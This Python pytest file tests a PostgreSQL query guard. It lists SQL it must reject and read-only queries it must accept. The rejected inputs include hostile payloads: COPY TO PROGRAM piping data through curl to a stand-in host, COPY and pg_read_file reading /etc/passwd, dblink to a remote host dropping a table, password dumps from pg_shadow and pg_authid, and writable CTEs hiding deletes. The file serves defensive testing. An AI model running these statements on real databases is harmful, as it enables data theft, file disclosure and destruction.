"""The SQL guard with the PostgreSQL dialect: every dangerous statement of the MySQL corpus
(tests/unit/test_sql_guard.py) has a PostgreSQL twin here, in the spellings PostgreSQL
adds (COPY, LISTEN, DO blocks, writable CTEs, `$1`, `::regclass`, `pg_*` functions).

tests/integration/test_sql_guard_postgresql_db.py runs the payloads that would succeed
on a real PostgreSQL to show they leak or act unguarded, and are refused guarded.
"""

from __future__ import annotations

import pytest
import sqlglot

from backend.domain import CheckedSql
from backend.errors import SqlRejected
from backend.sql_guard import check_sql
from tests.unit.test_sql_guard import SCHEMA

ROW_LIMIT = 100


def guard(sql: str, row_limit: int = ROW_LIMIT) -> CheckedSql:
    return check_sql(sql, schema=SCHEMA, dialect="postgresql", row_limit=row_limit)


def rejection(sql: str) -> str:
    with pytest.raises(SqlRejected) as caught:
        guard(sql)
    return str(caught.value)


REJECTED: list[tuple[str, str]] = [
    # text that is not one parsable statement
    ("SELEC * FROM orders", "starts with SELEC"),
    ("SELECT * FROM orders WHERE", "could not be parsed"),
    ("SELECT 'unterminated FROM orders", "could not be read"),
    ("SELECT 1; SELECT 2", "2 statements"),
    ("SELECT 1; DROP TABLE orders", "2 statements"),
    ("SELECT * FROM orders; DELETE FROM orders;", "2 statements"),
    ("SELECT $$;$$ AS s; DELETE FROM orders", "2 statements"),
    ("SELECT 1;\nCOMMIT;\nDELETE FROM orders", "3 statements"),
    ("VALUES (1)", "starts with VALUES"),
    # writes, DDL, permissions
    ("INSERT INTO orders (id) VALUES (1)", "INSERT changes data"),
    ("INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", "INSERT changes data"),
    ("UPDATE orders SET amount = 0", "UPDATE changes data"),
    ("UPDATE orders SET amount = 0 RETURNING *", "UPDATE changes data"),
    ("DELETE FROM orders", "DELETE changes data"),
    ("DELETE FROM orders RETURNING id", "DELETE changes data"),
    ("MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE", "MERGE"),
    ("DROP TABLE orders", "DROP changes the database structure"),
    ("DROP TABLE orders CASCADE", "DROP changes the database structure"),
    ("CREATE TABLE x (a INT)", "CREATE changes the database structure"),
    ("CREATE TEMP TABLE x AS SELECT * FROM orders", "CREATE changes the database structure"),
    ("CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", "CREATE changes the"),
    ("CREATE EXTENSION dblink", "CREATE changes the database structure"),
    ("ALTER TABLE orders ADD COLUMN c INT", "ALTER changes the database structure"),
    ("ALTER ROLE app SET default_transaction_read_only = off", "ALTER changes the database"),
    ("ALTER SYSTEM SET statement_timeout = 0", "ALTER changes the database structure"),
    ("TRUNCATE orders", "TRUNCATE changes the database structure"),
    ("TRUNCATE TABLE orders RESTART IDENTITY", "TRUNCATE changes the database structure"),
    ("COMMENT ON TABLE orders IS 'x'", "COMMENT changes the database structure"),
    ("GRANT SELECT ON orders TO bob", "GRANT changes permissions"),
    ("GRANT pg_read_server_files TO app", "GRANT changes permissions"),
    ("REVOKE SELECT ON orders FROM bob", "REVOKE changes permissions"),
    ("REASSIGN OWNED BY bob TO app", "REASSIGN is an administrative command"),
    ("SECURITY LABEL ON TABLE orders IS 'x'", "SECURITY is an administrative command"),
    # COPY: files and programs on the server
    ("COPY orders TO '/tmp/orders.csv'", "COPY copies data to or from files"),
    ("COPY orders FROM '/etc/passwd'", "COPY copies data to or from files"),
    ("COPY (SELECT * FROM orders) TO PROGRAM 'curl -d @- evil'", "COPY copies data"),
    ("COPY orders TO STDOUT", "COPY copies data to or from files"),
    ("copy orders from program 'id'", "COPY copies data to or from files"),
    ("(COPY orders TO STDOUT)", "COPY"),
    # session settings
    ("SET statement_timeout = 0", "SET changes session or server settings"),
    ("SET LOCAL statement_timeout TO 0", "SET changes session or server settings"),
    ("SET SESSION default_transaction_read_only = off", "SET changes session"),
    ("SET TRANSACTION READ WRITE", "SET changes session or server settings"),
    ("SET search_path = evil, public", "SET changes session or server settings"),
    ("SET ROLE postgres", "SET changes session or server settings"),
    ("SET SESSION AUTHORIZATION postgres", "SET changes session or server settings"),
    ("RESET ALL", "RESET is an administrative command"),
    ("RESET statement_timeout", "RESET is an administrative command"),
    ("DISCARD ALL", "DISCARD is an administrative command"),
    # procedures, anonymous blocks, notifications, cursors, locks, admin
    ("CALL cleanup()", "CALL runs a stored procedure"),
    ("DO $$BEGIN DELETE FROM orders; END$$", "DO evaluates expressions"),
    ("DO LANGUAGE plpgsql $x$BEGIN PERFORM pg_sleep(5); END$x$", "DO evaluates expressions"),
    ("LISTEN orders_changed", "LISTEN sends or listens for notifications"),
    ("NOTIFY orders_changed, 'x'", "NOTIFY sends or listens for notifications"),
    ("UNLISTEN *", "UNLISTEN sends or listens for notifications"),
    ("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders", "DECLARE works with cursors"),
    ("FETCH ALL FROM c", "FETCH works with cursors"),
    ("MOVE FORWARD 5 IN c", "MOVE works with cursors"),
    ("CLOSE c", "CLOSE works with cursors"),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "LOCK locks or unlocks tables"),
    ("LOCK orders", "LOCK locks or unlocks tables"),
    ("EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN reads server metadata"),
    ("EXPLAIN SELECT * FROM orders", "EXPLAIN reads server metadata"),
    ("SHOW ALL", "SHOW reads server metadata"),
    ("SHOW data_directory", "SHOW reads server metadata"),
    ("BEGIN", "BEGIN controls transactions"),
    ("START TRANSACTION READ WRITE", "START controls transactions"),
    ("COMMIT", "COMMIT controls transactions"),
    ("ABORT", "ABORT controls transactions"),
    ("SAVEPOINT s", "SAVEPOINT controls transactions"),
    ("PREPARE p AS DELETE FROM orders", "PREPARE is an administrative command"),
    ("EXECUTE p", "EXECUTE is an administrative command"),
    ("DEALLOCATE p", "DEALLOCATE is an administrative command"),
    ("VACUUM FULL orders", "VACUUM is an administrative command"),
    ("ANALYZE orders", "ANALYZE is an administrative command"),
    ("CHECKPOINT", "CHECKPOINT is an administrative command"),
    ("CLUSTER orders", "CLUSTER is an administrative command"),
    ("REINDEX TABLE orders", "REINDEX is an administrative command"),
    ("REFRESH MATERIALIZED VIEW sales_mv", "REFRESH is an administrative command"),
    ("IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public", "IMPORT is an administrative"),
    ("LOAD 'auto_explain'", "LOAD loads data from files"),
    # writable CTEs: a write hidden under a SELECT
    ("WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "contains a statement"),
    ("WITH x AS (UPDATE orders SET amount = 0 RETURNING id) SELECT id FROM x", "changes data"),
    ("WITH x AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT 1", "INTO"),
    (
        "WITH a AS (SELECT 1 AS v), b AS (DELETE FROM orders WHERE id IN (SELECT v FROM a) "
        "RETURNING id) SELECT COUNT(*) FROM b",
        "changes data",
    ),
    (
        "SELECT * FROM customers WHERE id IN (WITH d AS (DELETE FROM orders RETURNING "
        "customer_id) SELECT customer_id FROM d)",
        "changes data",
    ),
    ("WITH x AS (SELECT 1) DELETE FROM orders", "that statement changes data"),
    ("WITH x AS (SELECT 1) UPDATE orders SET amount = 1", "that statement changes data"),
    # SELECT ... INTO creates a table in PostgreSQL
    ("SELECT * INTO stolen FROM orders", "INTO stores results"),
    ("SELECT * INTO TEMP stolen FROM orders", "INTO stores results"),
    ("SELECT * INTO UNLOGGED TABLE stolen FROM orders", "INTO stores results"),
    ("SELECT id INTO TABLE stolen FROM orders LIMIT 1", "INTO stores results"),
    ("SELECT a FROM (SELECT 1 AS a INTO x) t", "INTO stores results"),
    # functions that sleep, read files, take locks, signal or change state
    ("SELECT pg_sleep(10)", "PG_SLEEP() is not allowed"),
    ("SELECT PG_SLEEP(1)", "PG_SLEEP() is not allowed"),
    ("SELECT * FROM orders WHERE pg_sleep(1) IS NULL", "PG_SLEEP() is not allowed"),
    ("SELECT (SELECT pg_sleep(1) FROM orders LIMIT 1) AS s", "PG_SLEEP() is not allowed"),
    ("SELECT pg_sleep_for('5 minutes')", "PG_SLEEP_FOR() is not allowed"),
    ("SELECT pg_sleep_until('tomorrow')", "PG_SLEEP_UNTIL() is not allowed"),
    ("SELECT id FROM orders ORDER BY pg_sleep(0.1)", "PG_SLEEP() is not allowed"),
    ("SELECT pg_read_file('/etc/passwd')", "PG_READ_FILE() is not allowed"),
    ("SELECT pg_read_binary_file('postgresql.auto.conf')", "PG_READ_BINARY_FILE() is not"),
    ("SELECT pg_ls_dir('.')", "PG_LS_DIR() is not allowed"),
    ("SELECT pg_stat_file('pg_hba.conf')", "PG_STAT_FILE() is not allowed"),
    ("SELECT lo_import('/etc/passwd')", "LO_IMPORT() is not allowed"),
    ("SELECT lo_export(16385, '/tmp/x')", "LO_EXPORT() is not allowed"),
    ("SELECT lo_get(16385)", "LO_GET() is not allowed"),
    ("SELECT lo_from_bytea(0, 'x')", "LO_FROM_BYTEA() is not allowed"),
    ("SELECT lo_creat(-1)", "LO_CREAT() is not allowed"),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE orders')", "DBLINK_EXEC() is not allowed"),
    ("SELECT dblink_connect('host=evil')", "DBLINK_CONNECT() is not allowed"),
    ("SELECT dblink_send_query('c', 'SELECT 1')", "DBLINK_SEND_QUERY() is not allowed"),
    ("SELECT nextval('orders_id_seq')", "NEXTVAL() is not allowed"),
    ("SELECT setval('orders_id_seq', 1)", "SETVAL() is not allowed"),
    ("SELECT currval('orders_id_seq')", "CURRVAL() is not allowed"),
    ("SELECT lastval()", "LASTVAL() is not allowed"),
    ("SELECT set_config('statement_timeout', '0', false)", "SET_CONFIG() is not allowed"),
    ("SELECT pg_advisory_lock(1)", "PG_ADVISORY_LOCK() is not allowed"),
    ("SELECT pg_advisory_xact_lock(1)", "PG_ADVISORY_XACT_LOCK() is not allowed"),
    ("SELECT pg_try_advisory_lock_shared(1)", "PG_TRY_ADVISORY_LOCK_SHARED() is not"),
    ("SELECT pg_terminate_backend(pid) FROM orders", "PG_TERMINATE_BACKEND() is not allowed"),
    ("SELECT pg_cancel_backend(1)", "PG_CANCEL_BACKEND() is not allowed"),
    ("SELECT pg_reload_conf()", "PG_RELOAD_CONF() is not allowed"),
    ("SELECT pg_notify('ch', 'x')", "PG_NOTIFY() is not allowed"),
    ("SELECT txid_current()", "TXID_CURRENT() is not allowed"),
    ("SELECT pg_current_xact_id()", "PG_CURRENT_XACT_ID() is not allowed"),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", "QUERY_TO_XML"),
    ("SELECT pg_catalog.pg_sleep(1)", "by schema name is not allowed"),
    ("SELECT public.my_udf(1)", "by schema name is not allowed"),
    ('SELECT "pg_sleep"(1)', "without double quotes"),
    ("SELECT my_udf(amount) FROM orders", "MY_UDF() is not one of"),
    ("SELECT crypt(name, gen_salt('bf')) FROM customers", "is not one of"),
    ("SELECT generate_series(1, 1000000000)", "GENERATE_SERIES() is not one of"),
    # row locks
    ("SELECT * FROM orders FOR UPDATE", "lock rows"),
    ("SELECT * FROM orders FOR NO KEY UPDATE", "lock rows"),
    ("SELECT * FROM orders FOR SHARE", "lock rows"),
    ("SELECT * FROM orders FOR KEY SHARE", "lock rows"),
    ("SELECT * FROM orders FOR UPDATE NOWAIT", "lock rows"),
    ("SELECT * FROM orders FOR UPDATE SKIP LOCKED", "lock rows"),
    ("SELECT * FROM orders o FOR UPDATE OF o", "lock rows"),
    ("SELECT * FROM (SELECT * FROM orders FOR UPDATE) o", "lock rows"),
    ("SELECT (SELECT id FROM orders LIMIT 1 FOR SHARE) AS i", "lock rows"),
    # placeholders and session/account metadata
    ("SELECT * FROM orders WHERE id = $1", "placeholder"),
    ("SELECT $1", "placeholder"),
    ("SELECT * FROM orders WHERE id = :id", "placeholder"),
    ("SELECT * FROM orders WHERE id = %s", "placeholder"),
    ("SELECT * FROM orders WHERE id = %(id)s", "placeholder"),
    ("SELECT current_user", "CURRENT_USER() describes the database account"),
    ("SELECT session_user", "SESSION_USER() describes the database account"),
    ("SELECT user", "USER() describes the database account"),
    ("SELECT current_role", "CURRENT_ROLE() describes the database account"),
    ("SELECT current_schema", "CURRENT_SCHEMA() describes the database account"),
    ("SELECT current_schema()", "CURRENT_SCHEMA() describes the database account"),
    ("SELECT current_catalog", "CURRENT_CATALOG() describes the database account"),
    ("SELECT current_database()", "CURRENT_DATABASE() describes the database account"),
    ("SELECT version()", "VERSION() describes the database account"),
    ("SELECT current_setting('data_directory')", "CURRENT_SETTING() describes the database"),
    ("SELECT inet_server_addr()", "INET_SERVER_ADDR() describes the database account"),
    ("SELECT pg_backend_pid()", "PG_BACKEND_PID() is not allowed"),
    ("SELECT has_table_privilege('orders', 'DELETE')", "HAS_TABLE_PRIVILEGE() describes"),
    ("SELECT * FROM orders WHERE customer_id::text = current_user", "CURRENT_USER()"),
    # system catalogs and schemas, qualified or not
    ("SELECT * FROM pg_catalog.pg_authid", "system table pg_authid"),
    ('SELECT * FROM "pg_catalog"."pg_shadow"', "system table pg_shadow"),
    ("SELECT usename, passwd FROM pg_shadow", "system table pg_shadow"),
    ("SELECT rolname, rolpassword FROM pg_authid", "system table pg_authid"),
    ("SELECT * FROM pg_user", "system table pg_user"),
    ("SELECT * FROM PG_ROLES", "system table PG_ROLES"),
    ("SELECT * FROM pg_settings", "system table pg_settings"),
    ("SELECT query FROM pg_stat_activity", "system table pg_stat_activity"),
    ("SELECT * FROM pg_tables", "system table pg_tables"),
    ("SELECT * FROM pg_proc", "system table pg_proc"),
    ("SELECT * FROM pg_largeobject", "system table pg_largeobject"),
    ("SELECT * FROM pg_toast.pg_toast_2619", "system table pg_toast_2619"),
    ("SELECT * FROM pg_temp_3.t", "system schema pg_temp_3"),
    ("SELECT * FROM information_schema.tables", "system schema information_schema"),
    ("SELECT * FROM INFORMATION_SCHEMA.COLUMNS", "system schema INFORMATION_SCHEMA"),
    ("SELECT * FROM information_schema.role_table_grants", "system schema information"),
    ("SELECT * FROM orders o JOIN pg_catalog.pg_class c ON c.oid = o.id", "system table"),
    ("SELECT * FROM pg_catalog.orders", "system schema pg_catalog"),
    ("SELECT * FROM information_schema.orders", "system schema information_schema"),
    ("SELECT (SELECT COUNT(*) FROM pg_class) AS n", "system table pg_class"),
    ("SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM pg_user)", "system table pg_user"),
    ("WITH u AS (SELECT * FROM pg_shadow) SELECT * FROM u", "system table pg_shadow"),
    ("SELECT 'pg_authid'::regclass", "Casting to REGCLASS looks names up"),
    ("SELECT 'pg_sleep'::regproc", "Casting to REGPROC"),
    ("SELECT CAST('postgres' AS regrole)", "Casting to REGROLE"),
    ("SELECT 10::oid", "Casting to OID"),
    ("SELECT * FROM public.orders", "without a database prefix: orders instead of"),
    ("SELECT * FROM sales.secrets", "sales.secrets is in another database"),
    ("SELECT * FROM otherdb.public.orders", "without a database prefix"),
    # table functions
    ("SELECT * FROM generate_series(1, 10) AS g", "Table functions such as"),
    ("SELECT * FROM pg_ls_dir('.') AS f", "Table functions such as PG_LS_DIR"),
    ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "Table functions such as"),
    ("SELECT * FROM orders, LATERAL pg_ls_dir('.') AS f", "PG_LS_DIR() is not allowed"),
    # unknown tables and CTEs shadowing tables
    ("SELECT * FROM invoices", "no table named invoices"),
    ("SELECT * FROM ordrs", "did you mean orders?"),
    ("WITH orders AS (SELECT * FROM customers) SELECT * FROM orders", "same name as the table"),
]


@pytest.mark.parametrize(("sql", "reason"), REJECTED)
def test_postgresql_guard_rejects_with_reason(sql: str, reason: str) -> None:
    assert reason.lower() in rejection(sql).lower()


ACCEPTED: list[tuple[str, str]] = [
    ("SELECT * FROM orders", "SELECT * FROM orders LIMIT 100"),
    ('SELECT "id", "amount" FROM "orders"', 'SELECT "id", "amount" FROM "orders" LIMIT 100'),
    (
        "SELECT date_trunc('month', ordered_at) AS month, SUM(amount) AS revenue FROM orders "
        "GROUP BY 1 ORDER BY 1",
        "DATE_TRUNC('MONTH', ordered_at)",
    ),
    (
        "SELECT EXTRACT(YEAR FROM ordered_at) AS y, COUNT(*) FROM orders GROUP BY 1",
        "EXTRACT(YEAR FROM ordered_at)",
    ),
    ("SELECT name FROM customers WHERE name ILIKE '%gmbh%'", "name ILIKE '%gmbh%'"),
    ("SELECT name || ' (' || city || ')' AS label FROM customers", "name || ' (' || city"),
    ("SELECT amount::numeric(10, 2) FROM orders", "CAST(amount AS DECIMAL(10, 2))"),
    (
        "SELECT * FROM orders WHERE ordered_at >= CURRENT_DATE - INTERVAL '30 days'",
        "CURRENT_DATE - INTERVAL '30 DAYS'",
    ),
    ("SELECT now() AS t", "CURRENT_TIMESTAMP AS t"),
    ("SELECT current_time AS t", "SELECT CURRENT_TIME AS t"),
    ("SELECT to_char(ordered_at, 'YYYY-MM') AS m FROM orders", "TO_CHAR(ordered_at, 'YYYY-MM')"),
    ("SELECT string_agg(name, ', ' ORDER BY name) FROM products", "STRING_AGG(name, ', '"),
    (
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM orders",
        "PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY amount)",
    ),
    ("SELECT COUNT(*) FILTER (WHERE amount > 100) FROM orders", "FILTER(WHERE amount > 100)"),
    ("SELECT DISTINCT ON (customer_id) * FROM orders", "DISTINCT ON (customer_id)"),
    ("SELECT amount FROM orders ORDER BY amount DESC NULLS LAST", "DESC NULLS LAST LIMIT 100"),
    ("SELECT name FROM customers WHERE name ~* '^a'", "name ~* '^a'"),
    ("SELECT $$it's$$ AS s", "'it''s'"),
    ("SELECT 'pg_sleep(1)' AS s, '$1' AS p", "'pg_sleep(1)'"),
    ('SELECT id AS "user" FROM orders', 'AS "user"'),
    ('SELECT "user" FROM customers', None),
    ('SELECT "lower"(name) FROM customers', "LOWER(name)"),  # the built-in, as unquoted
    ("SELECT * FROM unnest(ARRAY[1, 2]) AS u", "UNNEST(ARRAY[1, 2])"),
    ("SELECT 'COPY orders TO stdout' AS s", "'COPY orders TO stdout'"),
    ("TABLE orders", "SELECT * FROM orders"),
    (
        "WITH t AS MATERIALIZED (SELECT customer_id, SUM(amount) AS s FROM orders "
        "GROUP BY customer_id) SELECT * FROM t",
        "AS MATERIALIZED (",
    ),
    ("SELECT * FROM orders o, LATERAL (SELECT 1 AS one) x", "LATERAL (SELECT 1 AS one)"),
    ("SELECT * FROM orders LIMIT ALL", "LIMIT 100"),
]


@pytest.mark.parametrize(("sql", "expected"), ACCEPTED)
def test_postgresql_guard_accepts_read_queries(sql: str, expected: str | None) -> None:
    checked = guard(sql)
    assert expected is None or expected in checked.sql
    assert isinstance(sqlglot.parse_one(checked.sql, read="postgres"), sqlglot.exp.Query)


def test_postgresql_comments_are_dropped() -> None:
    checked = guard("SELECT /* pg_sleep(1) */ id -- a comment\nFROM orders")
    assert checked.sql == "SELECT id FROM orders LIMIT 100"


@pytest.mark.parametrize(
    ("sql", "applied", "expected"),
    [
        ("SELECT id FROM orders LIMIT 10", None, "LIMIT 10"),
        ("SELECT id FROM orders LIMIT 5000 OFFSET 20", 100, "LIMIT 100 OFFSET 20"),
        ("SELECT id FROM orders OFFSET 5 FETCH FIRST 500 ROWS ONLY", 100, "LIMIT 100"),
        ("SELECT id FROM orders FETCH FIRST 5 ROWS ONLY", None, "LIMIT 5"),
    ],
)
def test_postgresql_guard_caps_rows(sql: str, applied: int | None, expected: str) -> None:
    checked = guard(sql)
    assert checked.limit_applied == applied
    assert expected in checked.sql
